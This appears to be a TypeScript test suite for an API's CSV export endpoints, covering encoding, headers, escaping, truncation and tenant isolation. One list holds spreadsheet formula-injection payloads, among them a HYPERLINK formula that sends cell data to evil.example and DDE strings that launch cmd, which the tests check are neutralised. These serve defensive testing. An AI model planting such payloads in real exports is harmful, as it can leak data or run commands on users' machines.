import { parse } from 'csv-parse/sync';
import { describe, expect, it, onTestFinished } from 'vitest';
import { useTestApp } from '../support/app.js';
import {
  buildIssue,
  buildIssues,
  buildSuggestion,
  buildSuggestions,
  buildTenant,
  removeBusiness,
} from '../support/factories.js';
import { SPEC_ISSUE_LIST_FIELDS } from '../support/spec-fields.js';

const ctx = useTestApp();

type Item = Record<string, unknown> & { id: string };
type Row = Record<string, string>;

const exportOf = (resource: 'suggestions' | 'issues', key: string, query: Record<string, string> = {}) =>
  ctx.request().get(`/api/v1/export/${resource}`).set('X-API-Key', key).query(query);

const csvOf = (resource: 'suggestions' | 'issues', key: string, query: Record<string, string> = {}) =>
  exportOf(resource, key, { ...query, format: 'csv' });

/** The CSV as an independent reader sees it: a header row, then one object per record. */
const records = (text: string): Row[] => parse(text, { columns: true, relax_column_count: false });
const header = (text: string): string[] => parse(text).at(0)!;

/** What a JSON item becomes in a CSV cell: text as is, numbers in JS notation, null as an empty cell. */
const asCells = (item: Item): Row =>
  Object.fromEntries(
    Object.entries(item).map(([key, value]) => [key, value === null ? '' : String(value as string | number)]),
  );

/** Text a spreadsheet would run as a formula: the issue's list, plus compatibility forms csv-stringify misses. */
const FORMULA_CASES: [label: string, text: string][] = [
  ['=', '=HYPERLINK("http://evil.example/?x="&A1,"click")'],
  ['+', '+1+cmd|"/C calc"!A0'],
  ['-', '-2+3'],
  ['@', '@SUM(1+1)*cmd|"/C calc"!A0'],
  ['tab', '\t=1+1'],
  ['carriage return', '\r=1+1'],
  ['full-width =', '＝1+1'],
  ['full-width +', '＋1+1'],
  ['full-width -', '－1+1'],
  ['full-width @', '＠SUM(1)'],
  ['small =', '﹦1+1'],
  ['superscript +', '⁺1+1'],
];

/** The response body's bytes as sent: supertest's text would hide a byte-order mark. */
const bytes = (request: ReturnType<typeof exportOf>) =>
  request.buffer(true).parse((res, done) => {
    const chunks: Buffer[] = [];
    res.on('data', (chunk: Buffer) => chunks.push(chunk));
    res.on('end', () => done(null, Buffer.concat(chunks)));
  });

describe('CSV exports', () => {
  it('When bom=true, then the CSV starts with the UTF-8 byte-order mark; without it, or with bom=false, it does not', async () => {
    const t = await buildTenant(ctx.db);
    await buildSuggestion(ctx.db, t.business.id, { content: 'Café crème' });
    await buildIssue(ctx.db, t.business.id);
    const BOM = Buffer.from([0xef, 0xbb, 0xbf]);
    for (const resource of ['suggestions', 'issues'] as const) {
      const withBom = await bytes(csvOf(resource, t.read, { bom: 'true' }));
      expect(withBom.status, resource).toBe(200);
      const body = withBom.body as Buffer;
      expect(body.subarray(0, 3), resource).toEqual(BOM);
      expect(body.subarray(3, 5).toString(), resource).toBe('id');
      for (const query of [{}, { bom: 'false' }] as Record<string, string>[]) {
        const plain = (await bytes(csvOf(resource, t.read, query))).body as Buffer;
        expect(plain.subarray(0, 2).toString(), resource).toBe('id');
        expect(plain.equals(body.subarray(3)), resource).toBe(true);
      }
      // JSON never carries one (RFC 8259).
      const json = await exportOf(resource, t.read, { bom: 'true' });
      expect(json.text.charAt(0), resource).toBe('{');
    }
    const refused = await csvOf('suggestions', t.read, { bom: 'yes' });
    expect(refused.status).toBe(400);
    expect(refused.body.message).toMatch(/^Query failed: bom/);
  });

  it('When Accept: text/csv is sent without format, then the export is CSV; format wins when both are given', async () => {
    const t = await buildTenant(ctx.db);
    await buildSuggestions(ctx.db, t.business.id, 2);
    const byAccept = await exportOf('suggestions', t.read).set('Accept', 'text/csv');
    expect(byAccept.status).toBe(200);
    expect(byAccept.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(byAccept.headers['vary']).toMatch(/Accept/);
    expect(records(byAccept.text)).toHaveLength(2);
    const preferred = await exportOf('issues', t.read).set('Accept', 'application/json;q=0.5, text/csv');
    expect(preferred.headers['content-type']).toBe('text/csv; charset=utf-8');

    const formatWins = await exportOf('suggestions', t.read, { format: 'json' }).set('Accept', 'text/csv');
    expect(formatWins.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(formatWins.body.total).toBe(2);
    const csvWins = await csvOf('suggestions', t.read).set('Accept', 'application/json');
    expect(csvWins.headers['content-type']).toBe('text/csv; charset=utf-8');

    for (const accept of [undefined, '*/*', 'application/json', 'text/html']) {
      const request = exportOf('suggestions', t.read);
      const res = await (accept ? request.set('Accept', accept) : request);
      expect(res.headers['content-type'], accept).toBe('application/json; charset=utf-8');
    }
  });

  it('When format=csv, then it is an attachment named after the resource and the day, with the list fields as header', async () => {
    const t = await buildTenant(ctx.db);
    await buildSuggestions(ctx.db, t.business.id, 2);
    const days = [new Date().toISOString().slice(0, 10)];
    const res = await csvOf('suggestions', t.read);
    days.push(new Date().toISOString().slice(0, 10)); // the export may straddle midnight
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const disposition = res.headers['content-disposition'] as string;
    expect(days.map((day) => `attachment; filename="suggestions-${day}.csv"`)).toContain(disposition);
    expect(res.headers['x-total-count']).toBe('2');
    expect(res.headers['x-export-truncated']).toBe('false');
    const json = await exportOf('suggestions', t.read);
    expect(header(res.text)).toEqual(Object.keys(json.body.data[0]));
    expect(res.text.split('\r\n')[0]).toBe(
      'id,content,status,priority,sentiment,sentiment_score,language,sentiment_lexicon,customer_name,customer_email,upvote_count,tags,created_at,updated_at,merged_into',
    );
    expect(records(res.text).map((r) => r.content)).toEqual(['bulk 2', 'bulk 1']);
  });

  it('When issues are exported as CSV, then the columns are the issue list fields and nulls are empty cells', async () => {
    const t = await buildTenant(ctx.db);
    await buildIssue(ctx.db, t.business.id, {
      title: 'Broken, again',
      status: 'resolved',
      customerEmail: 'a@b.example',
    });
    const res = await csvOf('issues', t.read);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="issues-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(header(res.text)).toEqual(SPEC_ISSUE_LIST_FIELDS);
    const json = await exportOf('issues', t.read);
    expect(records(res.text)).toEqual(json.body.data.map(asCells));
    expect(records(res.text)[0]).toMatchObject({ title: 'Broken, again', assignee_id: '', customer_name: '' });
  });

  it('When nothing matches, then the CSV is the header row alone', async () => {
    const t = await buildTenant(ctx.db);
    const res = await csvOf('issues', t.read, { status: 'closed' });
    expect(res.status).toBe(200);
    expect(res.text).toBe(
      'id,title,description,status,priority,language,assignee_id,customer_name,customer_email,tags,resolved_at,created_at,updated_at\r\n',
    );
  });

  it('When content holds commas, quotes, line breaks and unicode, then a CSV parser reads back exactly the JSON items', async () => {
    const t = await buildTenant(ctx.db);
    const contents = [
      'Hello, world',
      'She said "make it stronger"',
      'first line\nsecond line',
      'windows\r\nline break',
      'a lone\rcarriage return',
      '"quoted", and, commas\n"and" lines',
      'Café ☕ — 日本語のフィードバック 🎉 ñ',
      'trailing space ',
      '  ',
    ];
    for (const content of contents) {
      await buildSuggestion(ctx.db, t.business.id, {
        content,
        customerName: 'Ünal, "Ü"',
        customerEmail: 'ü@example.com',
      });
    }
    const res = await csvOf('suggestions', t.read);
    const json = await exportOf('suggestions', t.read);
    const parsed = records(res.text);
    expect(parsed).toHaveLength(contents.length);
    expect(parsed).toEqual(json.body.data.map(asCells));
    expect(new Set(parsed.map((r) => r.content))).toEqual(new Set(contents));
    expect(Buffer.from(res.text, 'utf8').toString('utf8')).toContain('日本語のフィードバック 🎉');
  });

  it.each(FORMULA_CASES)(
    'When a text cell starts with %s, then the CSV prefixes it with a quote while JSON keeps it as stored',
    async (_label, text) => {
      const t = await buildTenant(ctx.db);
      await buildSuggestion(ctx.db, t.business.id, { content: text, customerName: text, customerEmail: text });
      await buildIssue(ctx.db, t.business.id, { title: text, description: text, customerName: text });
      const [suggestion] = records((await csvOf('suggestions', t.read)).text);
      expect(suggestion).toMatchObject({ content: `'${text}`, customer_name: `'${text}`, customer_email: `'${text}` });
      const [issue] = records((await csvOf('issues', t.read)).text);
      expect(issue).toMatchObject({ title: `'${text}`, description: `'${text}`, customer_name: `'${text}` });
      expect((await exportOf('suggestions', t.read)).body.data[0].content).toBe(text);
    },
  );

  it('When a text starts with a minus and the sentiment score is negative, then the text is prefixed and the score stays a number', async () => {
    const t = await buildTenant(ctx.db);
    await buildSuggestion(ctx.db, t.business.id, {
      content: '-5 stars, never again',
      sentiment: 'negative',
      sentimentScore: -0.75,
    });
    const res = await csvOf('suggestions', t.read);
    const line = res.text.split('\r\n')[1]!;
    expect(line).toContain(`,"'-5 stars, never again",pending,medium,negative,-0.75,en,en,,,0,`);
    const [row] = records(res.text);
    expect(row).toMatchObject({ content: "'-5 stars, never again", sentiment_score: '-0.75', upvote_count: '0' });
    expect(Number(row!.sentiment_score)).toBe(-0.75);
  });

  it('When text only contains formula characters later on, then it is left alone', async () => {
    const t = await buildTenant(ctx.db);
    await buildSuggestion(ctx.db, t.business.id, { content: 'a=b+c-d@e' });
    const [row] = records((await csvOf('suggestions', t.read)).text);
    expect(row!.content).toBe('a=b+c-d@e');
  });

  // Writes, exports and parses 10,000 rows: up to 23 s measured on a loaded 2-core machine.
  it('When more than 10,000 issues match, then the CSV has 10,000 records and the headers say it was truncated', async () => {
    const t = await buildTenant(ctx.db);
    onTestFinished(() => removeBusiness(ctx.db, t.business.id));
    await buildIssues(ctx.db, t.business.id, 10_050);
    const res = await csvOf('issues', t.read);
    expect(res.headers['x-total-count']).toBe('10050');
    expect(res.headers['x-export-truncated']).toBe('true');
    const parsed = records(res.text);
    expect(parsed).toHaveLength(10_000);
    expect(parsed[0]!.title).toBe('bulk 10050');
    expect(parsed[9_999]!.title).toBe('bulk 51');
  }, 45_000);

  it("When another business has rows, then its rows never reach this business's CSV", async () => {
    const t = await buildTenant(ctx.db);
    const other = await buildTenant(ctx.db);
    await buildIssues(ctx.db, other.business.id, 3, { text: 'foreign' });
    await buildIssues(ctx.db, t.business.id, 1, { text: 'mine' });
    const res = await csvOf('issues', t.read);
    expect(records(res.text).map((r) => r.title)).toEqual(['mine 1']);
    expect(res.text).not.toContain('foreign');
  });
});
